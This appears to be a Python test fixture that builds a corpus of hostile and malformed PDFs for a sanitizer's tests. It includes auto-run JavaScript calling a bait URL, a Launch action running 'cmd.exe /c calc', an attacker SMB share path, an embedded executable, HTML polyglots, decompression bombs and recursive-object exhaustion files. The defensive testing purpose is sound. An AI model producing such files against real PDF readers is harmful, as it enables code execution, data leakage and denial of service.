# SPDX-License-Identifier: EUPL-1.2
"""PDFs that act, hide, swell or pretend: written by hand, object by object.

`documents` gives each by name. Source: ISO 32000-2, 12.6 (actions), 7.11 (files), 12.7 (forms).
"""

# ruff: noqa: E501  (an attack reads on one line)

from __future__ import annotations

import io
import zipfile
import zlib
from typing import Final

from tests.hostile.corpus.bait import Bait

HEAD: Final = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
SCRIPT: Final = (
    "(app.alert\\(1\\); this.submitForm\\('{url}/pdf-script'\\); app.launchURL\\('{url}/l'\\);)"
)

Objects = dict[int, bytes]


def whole(objects: Objects, *, root: int = 1, trailer: bytes = b"") -> bytes:
    """A file of these objects, with a table that is right."""
    made, places = bytearray(HEAD), {}
    for number, content in sorted(objects.items()):
        places[number] = len(made)
        made += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = len(made)
    size = max(objects) + 1
    made += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        made += b"%010d 00000 %b \n" % (places.get(number, 0), b"n" if number in places else b"f")
    made += b"trailer\n<</Size %d/Root %d 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        trailer,
        table,
    )
    return bytes(made)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(content), entries, content)


def page(
    catalogue: str = "", on_page: str = "", more: Objects | None = None, text: str = "Bonjour"
) -> bytes:
    """One page that says something, with entries added to the catalogue and to the page."""
    drawn = f"BT /F1 18 Tf 40 100 Td ({text}) Tj ET".encode()
    return whole(
        {
            1: f"<</Type/Catalog/Pages 2 0 R{catalogue}>>".encode(),
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: (
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R"
                f"/Resources<</Font<</F1 5 0 R>>>>{on_page}>>"
            ).encode(),
            4: stream(drawn),
            5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            **(more or {}),
        }
    )


def action(kind: str, entries: str) -> str:
    """An action that is run when the file opens."""
    return f"/OpenAction<</Type/Action/S/{kind}{entries}>>"


def active(bait: Bait) -> dict[str, bytes]:
    """Readable files with something that acts: all of it must go, and the page stay."""
    url = bait.url
    script = SCRIPT.replace("{url}", url)
    link = "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A{a}>>]"
    attached = {
        8: stream(b"MZ" + bytes(100), b"/Type/EmbeddedFile"),
        9: b"<</Type/Filespec/F(evil.exe)/EF<</F 8 0 R>>>>",
    }
    return {
        "javascript-at-opening": page(action("JavaScript", f"/JS{script}")),
        "javascript-in-names": page(
            f"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS{script}>>]>>>>"
        ),
        "javascript-on-page": page(on_page=f"/AA<</O<</S/JavaScript/JS{script}>>>>"),
        "javascript-of-document": page(f"/AA<</WC<</S/JavaScript/JS{script}>>>>"),
        "javascript-in-a-stream": page(
            action("JavaScript", "/JS 8 0 R"), more={8: stream(script.encode())}
        ),
        "javascript-in-hex": page(action("JavaScript", "/JS<6170702e616c6572742831293b>")),
        "javascript-name-escaped": page(
            f"/OpenAction<</S/J#61vaScript/J#53{script}>>"
        ),
        "javascript-chained": page(
            action("GoTo", f"/D[3 0 R/Fit]/Next<</S/JavaScript/JS{script}>>")
        ),
        "javascript-on-a-field": page(
            "/AcroForm<</Fields[8 0 R]/CO[8 0 R]>>",
            "/Annots[8 0 R]",
            {
                8: f"<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/V(b)/Rect[0 0 99 20]/AA<</K<</S/JavaScript/JS{script}>>>>>>".encode()
            },
        ),
        "javascript-of-an-outline": page(
            "/Outlines 8 0 R",
            more={
                8: b"<</Type/Outlines/First 9 0 R/Last 9 0 R/Count 1>>",
                9: f"<</Title(x)/Parent 8 0 R/A<</S/JavaScript/JS{script}>>>>".encode(),
            },
        ),
        "launch": page(action("Launch", "/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>")),
        "uri": page(action("URI", f"/URI({url}/uri)")),
        "uri-on-a-link": page(on_page=link.replace("{a}", f"<</S/URI/URI({url}/link)>>")),
        "uri-javascript": page(
            on_page=link.replace("{a}", "<</S/URI/URI(javascript:window.__canary\\(1\\))>>")
        ),
        "uri-base": page(f"/URI<</Base({url}/)>>"),
        "go-to-remote": page(action("GoToR", f"/F({url}/x.pdf)/D[0/Fit]")),
        "go-to-embedded": page(action("GoToE", f"/F({url}/x.pdf)/D[0/Fit]/T<</R/C>>")),
        "go-to-share": page(action("GoToR", "/F<</F(\\\\\\\\attacker\\\\share\\\\x)>>/D[0/Fit]")),
        "submit-form": page(action("SubmitForm", f"/F<</FS/URL/F({url}/submit)>>")),
        "import-data": page(action("ImportData", f"/F({bait.file})")),
        "sound": page(action("Sound", "/Sound 8 0 R"), more={8: stream(b"x", b"/Type/Sound/R 8000")}),
        "movie": page(on_page=f"/Annots[<</Subtype/Movie/Rect[0 0 9 9]/Movie<</F({url}/m)>>>>]"),
        "rendition": page(action("Rendition", f"/OP 0/R<</S/MR/C<</S/MCD/D({url}/r)>>>>")),
        "rich-media": page(
            on_page="/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<<>>>>>>]"
        ),
        "three-d": page(
            on_page="/Annots[<</Subtype/3D/Rect[0 0 9 9]/3DD 8 0 R>>]",
            more={8: stream(b"x", b"/Type/3D/Subtype/U3D/OnInstantiate 8 0 R")},
        ),
        "file-annotation": page(
            on_page="/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 9 0 R>>]", more=attached
        ),
        "embedded-file": page("/Names<</EmbeddedFiles<</Names[(e)9 0 R]>>>>", more=attached),
        "associated-file": page("/AF[9 0 R]", more=attached),
        "collection": page(
            "/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(e)9 0 R]>>>>", more=attached
        ),
        "xfa": page(
            "/AcroForm<</Fields[]/XFA 8 0 R>>",
            more={8: stream(f"<xdp xmlns:x='{url}'><script>{script}</script></xdp>".encode())},
        ),
        "web-capture": page(f"/SpiderInfo<</V 1/C[<</URL({url}/s)>>]>>"),
        "external-stream": page(
            more={4: b"<</Length 0/F(%b/stream)>>\nstream\n\nendstream" % url.encode()}
        ),
        "external-xobject": page(
            more={8: b"<</Subtype/Form/Ref<</F(%b/x.pdf)/Page 0>>/Length 0>>\nstream\n\nendstream" % url.encode()}
        ),
        "opi": page(more={8: stream(b"", b"/Subtype/Image/OPI<</2.0<</F(%b/o)>>>>" % url.encode())}),
        "postscript": page(more={8: stream(b"(x) print", b"/Type/XObject/Subtype/PS")}),
        "usage-rights": page("/Perms<</UR3<<>>>>/Extensions<</X<<>>>>"),
        "metadata": page("/Metadata 8 0 R", more={8: stream(b"<x:xmpmeta/>", b"/Type/Metadata")}),
        "html-before": b"<html><script>window.__canary(1)</script></html>\n"[:0] + page(),
        "html-after": page() + b"<html><script>window.__canary(1)</script></html>",
        "html-in-the-head": HEAD + b"%<html><body onload=window.__canary(1)>\n" + page()[len(HEAD) :],
        "zip-after": page() + _zip(),
        "title-hostile": page("/Lang(\\074script\\076)", text="<script>window.__canary\\(1\\)</script>"),
    }  # fmt: skip


def broken(bait: Bait) -> dict[str, bytes]:
    """What cannot be had, or pretends: refused, or read for what it is, in little memory and time."""
    good = page()
    bomb = zlib.compress(bytes(200_000_000), 9)
    twice = zlib.compress(bomb, 9)
    tree: Objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for number in range(2, 3000):
        tree[number] = b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (
            number + 1,
            number - 1,
        )
    tree[3000] = b"<</Type/Page/Parent 2999 0 R/MediaBox[0 0 9 9]>>"
    wide: Objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[%b]/Count 5000>>" % (b"3 0 R " * 5000),
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    }
    laughs: Objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</a 5 0 R>>>>>>",
        4: stream(b"/a Do " * 10),
    }
    for number in range(5, 16):
        laughs[number] = stream(
            b"/a Do " * 10,
            b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</a %d 0 R>>>>" % (number + 1),
        )
    laughs[16] = stream(b"0 0 9 9 re f", b"/Subtype/Form/BBox[0 0 9 9]")
    return {
        "nothing-but-a-head": b"%PDF-1.7\n",
        "cut": good[: len(good) // 2],
        "cut-before-the-end": good[:-40],
        "no-table": good[: good.index(b"xref")],
        "table-elsewhere": good.replace(b"startxref\n", b"startxref\n9999999"),
        "table-in-a-ring": good.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % good.index(b"xref")),
        "size-huge": good.replace(b"/Size 6", b"/Size 99999999"),
        "object-in-a-ring": whole({1: b"1 0 R", 2: b"<</Pages 2 0 R>>"}),
        "pages-in-a-ring": whole(
            {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>"}
        ),
        "no-pages": whole({1: b"<</Type/Catalog>>"}),
        "count-lies": good.replace(b"/Count 1", b"/Count 999999999"),
        "count-negative": good.replace(b"/Count 1", b"/Count -1"),
        "tree-deep": whole(tree),
        "pages-many": whole(wide),
        "arrays-deep": page("/PageLabels " + "[" * 20_000 + "]" * 20_000),
        "dictionaries-deep": page("/PageLabels " + "<</a" * 20_000 + " 1" + ">>" * 20_000),
        "page-huge": good.replace(b"[0 0 300 200]", b"[0 0 9999999 9999999]"),
        "page-none": good.replace(b"[0 0 300 200]", b"[0 0 0 0]"),
        "page-nan": good.replace(b"[0 0 300 200]", b"[(a) null 1e99 -1]"),
        "user-unit": page(on_page="/UserUnit 1e9"),
        "bomb": page(more={4: stream(bomb, b"/Filter/FlateDecode")}),
        "bomb-twice": page(more={4: stream(twice, b"/Filter[/FlateDecode/FlateDecode]")}),
        "bomb-of-filters": page(more={4: stream(b"x", b"/Filter[" + b"/FlateDecode" * 5000 + b"]")}),
        "bomb-run-length": page(more={4: stream(b"\x81x" * 2_000_000, b"/Filter/RunLengthDecode")}),
        "image-huge": page(
            on_page="/Thumb 8 0 R",
            more={
                4: stream(b"q 300 0 0 200 0 0 cm /I Do Q"),
                8: stream(
                    zlib.compress(bytes(1000)),
                    b"/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB"
                    b"/Filter/FlateDecode",
                ),
            },
        ),
        "forms-of-forms": whole(laughs),
        "form-in-itself": page(
            more={
                4: stream(b"/a Do"),
                3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</a 8 0 R>>>>>>",
                8: stream(b"/a Do", b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</a 8 0 R>>>>"),
            }
        ),
        "operators-many": page(more={4: stream(b"q " * 1_000_000)}),
        "pattern-tiny": page(
            more={
                3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9999 9999]/Contents 4 0 R/Resources<</Pattern<</p 8 0 R>>>>>>",
                4: stream(b"/Pattern cs /p scn 0 0 9999 9999 re f"),
                8: stream(
                    b"0 0 1 1 re f",
                    b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001/YStep .001/Resources<<>>",
                ),
            }
        ),
        "encrypted": good.replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%b>/U<%b>>>"
            % (b"41" * 32, b"42" * 32),
        ),
        "encrypted-by-another": good.replace(b"/Root 1 0 R", b"/Root 1 0 R/Encrypt<</Filter/Evil>>"),
        "object-stream-lies": page(more={8: stream(b"9 0 <<>>", b"/Type/ObjStm/N 99999999/First 8")}),
        "length-lies": good.replace(b"/Length ", b"/Length 99999"),
        "length-in-a-ring": good.replace(b"<</Length 39", b"<</Length 4 0 R"),
        "name-long": page("/PageLabels /" + "n" * 200_000),
        "string-long": page("/Lang(" + "(" * 100_000 + ")" * 100_000 + ")"),
        "number-long": page("/PageLabels " + "9" * 100_000),
        "zip-named-pdf": _zip(),
        "html-named-pdf": b"<html><script>window.__canary(1)</script>",
        "html-then-pdf": b"<html><script>window.__canary(1)</script></html>" + good,
        "jpeg-then-pdf": b"\xff\xd8\xff\xfe\x00\x10" + good,
        "gif-then-pdf": b"GIF89a" + good,
        "executable-then-pdf": b"MZ" + bytes(62) + good,
        "nothing": b"",
        "noise": b"%PDF-1.7\n" + bytes(range(256)) * 50,
        "bait": page(action("GoToR", f"/F({bait.file})/D[0/Fit]"))[:-1],
    }  # fmt: skip


def documents(bait: Bait) -> dict[str, bytes]:
    """Every one."""
    return {**active(bait), **broken(bait)}


def _zip() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(zipfile.ZipInfo("index.html"), "<script>window.__canary(1)</script>")
    return made.getvalue()
